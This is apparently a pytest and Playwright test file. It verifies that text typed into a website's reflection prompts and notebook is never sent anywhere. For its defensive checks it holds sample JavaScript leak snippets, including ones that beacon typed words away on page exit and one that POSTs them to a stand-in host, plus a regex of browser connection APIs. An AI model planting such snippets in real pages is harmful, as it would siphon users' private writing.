"""What a reader types goes nowhere: on every page that asks, on a set and in the notebook, every request is noted.

Noted in three ways, so that none is missed: by the site's own host, which also hears what is sent while a page closes
and by a worker; by a proxy, through which everything for other hosts has to go; and by the browser's own network
domain, which tells of a page's requests that a policy blocks or a cache answers, too.
"""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Locator, expect
from playwright.sync_api import Page as Tab

from tests.building import ROOT, Build
from tests.pages import Page
from tests.saying import nothing
from tests.serving import Host, Line

WORDS = "quartz heron lantern"
"""What is typed: no file of the site bears one of these words, and no page holds one."""
CONNECTING = re.compile(r"\b(?:sendBeacon|XMLHttpRequest|WebSocket|EventSource|WebTransport|RTCPeerConnection|fetch)\b")


@dataclass(frozen=True)
class Request:
    """One request, and who told of it: "host", "proxy" or "page"."""

    by: str
    method: str
    address: str
    body: str = ""


@contextmanager
def listening(kind: type[BaseHTTPRequestHandler]) -> Iterator[str]:
    """A server of this kind on a free port; gives its address."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), kind)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


@contextmanager
def noting(site: Build) -> Iterator[tuple[str, str, list[Request]]]:
    """The address of a host of the site, that of a proxy that leads nowhere, and the requests that both have noted."""
    noted: list[Request] = []

    def body_of(handler: BaseHTTPRequestHandler) -> str:
        return handler.rfile.read(int(handler.headers.get("Content-Length") or 0)).decode("utf-8", "replace")

    class OwnHost(Host):
        root = site.output
        fonts_after = 0.0
        line = Line()

        def parse_request(self) -> bool:
            done = super().parse_request()
            if done:
                noted.append(Request("host", self.command, self.path, body_of(self)))
            return done

        def do_POST(self) -> None:
            self.send_error(501)

    class Proxy(BaseHTTPRequestHandler):
        def parse_request(self) -> bool:
            done = super().parse_request()
            if done:
                noted.append(Request("proxy", self.command, self.path, body_of(self)))
            return done

        def refuse(self) -> None:
            self.send_error(502)

        do_GET = do_POST = do_HEAD = do_PUT = do_CONNECT = do_OPTIONS = refuse

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    with listening(OwnHost) as host, listening(Proxy) as proxy:
        yield host, proxy, noted


@pytest.fixture
def noted(browser: Browser, site: Build) -> Iterator[tuple[BrowserContext, list[Request]]]:
    """A fresh profile that sees the site through the three ears, and what they have heard."""
    with noting(site) as (host, proxy, requests):
        context = browser.new_context(base_url=host, proxy={"server": proxy, "bypass": "127.0.0.1"})
        yield context, requests
        context.close()


def opened(
    context: BrowserContext,
    requests: list[Request],
    address: str,
    ready: str = ".prompt-answer",
    from_here: bool = True,
) -> Tab:
    """A tab with the whole page in it, its late pictures too; what it asks for from now on is noted.

    ready: what shows that its scripts are. from_here: else what the page asks for while it opens is noted as well.
    """
    tab = context.new_page()
    requests.clear()
    tab.goto(address)
    tab.locator(ready).first.wait_for()
    for picture in tab.locator("img[loading=lazy]").all():
        picture.scroll_into_view_if_needed()
    tab.wait_for_load_state("networkidle")
    ear = context.new_cdp_session(tab)
    ear.send("Network.enable")

    def heard(event: dict[str, Any]) -> None:
        request = event["request"]
        if not request["url"].startswith(("blob:", "about:")):
            requests.append(Request("page", request["method"], request["url"], request.get("postData", "")))

    ear.on("Network.requestWillBeSent", heard)
    ear.on("Network.webSocketCreated", lambda event: requests.append(Request("page", "WebSocket", event["url"])))
    if from_here:
        requests.clear()
    return tab


def left(tab: Tab) -> None:
    """Hide the page, then leave it, as who turns to another app does; and wait for what it still might send."""
    tab.evaluate("""() => {
        Object.defineProperty(document, "hidden", { value: true });
        Object.defineProperty(document, "visibilityState", { value: "hidden" });
        document.dispatchEvent(new Event("visibilitychange"));
    }""")
    tab.goto("about:blank")
    tab.wait_for_load_state("networkidle")


STEPS = {
    "A card to carry": ["By day or by night", "Save the picture", "Close"],
    "Ask me again": ["In a month", "In three months", "In a year"],
    "Answer again": ["Change"],
}
"""What can be pressed at the foot of a prompt, and what each brings out."""


def write_and_press_everything(tab: Tab) -> None:
    """Type under every question, and press each button at its foot, and each that this brings out."""
    prompts = tab.locator("reflection-prompt").all()
    type_under(prompts)
    for prompt in prompts:
        for name, further in STEPS.items():
            for button in (name, *further):
                prompt.get_by_role("button", name=button).first.click()
    type_under(prompts)
    for prompt in prompts:
        names = {*STEPS, *(name for further in STEPS.values() for name in further)}
        assert set(prompt.locator("button:visible").all_inner_texts()) <= names, "a button that nobody pressed"


def type_under(prompts: list[Locator]) -> None:
    """Letter by letter under each, then wait until all is kept."""
    for prompt in prompts:
        prompt.get_by_role("textbox").first.press_sequentially(WORDS)
    for prompt in prompts:
        expect(prompt.locator(".prompt-foot").get_by_role("status").first).to_have_text("Saved")


def leaks(site: Build, host: str, requests: list[Request]) -> list[Request]:
    """Requests that say more than that somebody is here."""
    return [request for request in requests if not is_plain(site, host, request)]


def is_plain(site: Build, host: str, request: Request) -> bool:
    """A GET without a body or a query, of a file that the build wrote; by the page itself, only scripts and styles."""
    address = request.address.removeprefix(host)
    said = unquote(address).casefold()
    late = re.fullmatch(r"/assets/[\w.-]+\.(?:js|css)", address) or address == "/worker.js"
    return (
        request.by != "proxy"
        and request.method == "GET"
        and not request.body
        and address.startswith("/")
        and not re.search(r"[?#;=&@]", address)
        and not any(word in said for word in WORDS.split())
        and site.file(urlsplit(address).path).is_file()
        and (bool(late) or request.by == "host")
    )


def test_what_is_typed_goes_nowhere(
    site: Build, pages: list[Page], noted: tuple[BrowserContext, list[Request]]
) -> None:
    """Under every question of the whole site, with all that can be pressed, until after the page is left."""
    context, requests = noted
    asking = [page.address for page in pages if "<reflection-prompt" in page.text and not page.is_redirect]
    assert len(asking) >= 4, "the demonstration asks in several musings, and on the page that tells how to check"
    found: dict[str, list[Request]] = {}
    fetched = 0
    for address in asking:
        tab = opened(context, requests, address)
        host = tab.evaluate("location.origin")
        write_and_press_everything(tab)
        left(tab)
        fetched += len(requests)
        if told := leaks(site, host, requests):
            found[address] = told
        kept = context.new_page()
        kept.goto("/404.html")
        kept_words = kept.evaluate("Object.values(localStorage).filter((value) => value.includes('heron')).length")
        assert kept_words, "nothing was written, so nothing was tested"
        kept.close()
        tab.close()
    assert fetched, "not even a late script was noted: nobody was listening"
    nothing(found)


def test_what_is_typed_under_a_set_goes_nowhere(
    site: Build, pages: list[Page], noted: tuple[BrowserContext, list[Request]]
) -> None:
    """A set of the demonstration's own questions; the host hears of which musings they are, and no more."""
    context, requests = noted
    asked = {page.address.split("/")[2]: page.every("reflection-prompt")[0].get("id") for page in pages if asks(page)}
    assert len(asked) >= 3, "the demonstration asks in several musings"
    fragment = "&".join(f"{slug}={name}" for slug, name in asked.items())
    tab = opened(context, requests, f"/reflections/set/#{fragment}", from_here=False)
    host = tab.evaluate("location.origin")
    expect(tab.locator("prompt-set > reflection-prompt")).to_have_count(len(asked))
    write_and_press_everything(tab)
    left(tab)
    assert [request for request in requests if request.address.endswith("/prompts.js")], "nobody was listening"
    nothing(leaks(site, host, requests))


def asks(page: Page) -> bool:
    """Whether it is a musing with a question."""
    return page.is_musing and "<reflection-prompt" in page.text


def test_what_is_searched_and_taken_in_the_notebook_goes_nowhere(
    site: Build, pages: list[Page], noted: tuple[BrowserContext, list[Request]]
) -> None:
    """The search box, and the box whose words may be taken to the contact form: declined, they are gone."""
    context, requests = noted
    musing = opened(context, requests, next(page.address for page in pages if asks(page)))
    musing.get_by_role("textbox").first.press_sequentially(WORDS)
    expect(musing.locator(".prompt-foot").get_by_role("status").first).to_have_text("Saved")
    musing.close()
    tab = opened(context, requests, "/notebook/", ready=".notebook-words", from_here=False)
    host = tab.evaluate("location.origin")
    tab.get_by_role("searchbox").press_sequentially(WORDS)
    expect(tab.locator("mark")).to_have_text(WORDS.split())
    tab.get_by_role("searchbox").press("Enter")
    tab.get_by_role("searchbox").fill("")
    tab.get_by_role("button", name="Take this to the contact form").click()
    tab.get_by_role("checkbox").first.check()
    box = tab.get_by_role("textbox", name="This would be sent, word for word.")
    expect(box).to_have_value(re.compile(WORDS))
    box.press_sequentially(WORDS)
    tab.get_by_role("button", name="Not now").first.click()
    left(tab)
    assert [request for request in requests if request.by == "host"], "nobody was listening"
    nothing(leaks(site, host, requests))


LEAKS = {
    "a picture of the own host": "words => { new Image().src = `/favicon.svg?${words}` }",
    "a picture with a path": "words => { new Image().src = `/assets/${encodeURIComponent(words)}.png` }",
    "a script of the own host": "words => import(`/assets/${encodeURIComponent(words)}.js`).catch(() => {})",
    "a page that is never shown": """words => {
        const link = document.createElement("link");
        Object.assign(link, { rel: "stylesheet", href: `/${encodeURIComponent(words)}/` });
        document.head.append(link);
    }""",
    "a picture when the page is hidden": """words => document.addEventListener("visibilitychange", () => {
        new Image().src = `/?${words}`;
    })""",
}
UNRULED = {
    "a message when the page is left": "words => addEventListener('pagehide', () => navigator.sendBeacon('/x', words))",
    "a message to another host": "words => { fetch('http://elsewhere.example/', { method: 'POST', body: words }) }",
    "a message whose page is gone": """words => addEventListener("pagehide", () => {
        fetch("/musings/", { method: "POST", body: words, keepalive: true });
    })""",
    "a bare message to another host": """words => new Promise((over) => {
        Object.assign(new Image(), { onerror: over, src: "http://elsewhere.example/x.png" });
    })""",
}
"""What the policy would stop: tried where the browser is told to disregard it."""


@pytest.mark.parametrize("leak", LEAKS)
def test_a_leak_that_no_policy_stops_would_be_noted(
    site: Build, noted: tuple[BrowserContext, list[Request]], leak: str
) -> None:
    context, requests = noted
    tab = opened(context, requests, "/see-for-yourself/")
    host = tab.evaluate("location.origin")
    tab.evaluate(LEAKS[leak], WORDS)
    left(tab)
    assert leaks(site, host, requests), requests


@pytest.mark.parametrize("leak", UNRULED)
def test_a_leak_would_be_noted_if_there_were_no_policy(browser: Browser, site: Build, leak: str) -> None:
    with noting(site) as (host, proxy, requests):
        context = browser.new_context(base_url=host, proxy={"server": proxy, "bypass": "127.0.0.1"}, bypass_csp=True)
        tab = opened(context, requests, "/see-for-yourself/")
        tab.evaluate(UNRULED[leak], WORDS)
        left(tab)
        told = leaks(site, host, requests)
        context.close()
    assert {request.by for request in told} & {"host", "proxy"}, "only the page's own network domain told of it"


def test_no_script_beside_a_question_knows_how_to_connect() -> None:
    """Read in the sources; a worker fetches what it keeps, from the site alone, and is listened to above."""
    scripts = [path for room in ("prompts", "assets", "galleries") for path in (ROOT / "plugins" / room).rglob("*.js")]
    spoken = {path.name: CONNECTING.findall(strip(path)) for path in scripts if path.name != "worker.js"}
    assert {"reflection-prompt.js", "answers.js"} <= spoken.keys()
    nothing({name: found for name, found in spoken.items() if found})


def strip(path: Path) -> str:
    """A script without its comments."""
    return re.sub(r"/\*.*?\*/|//[^\n]*", "", path.read_text(encoding="utf-8"), flags=re.DOTALL)
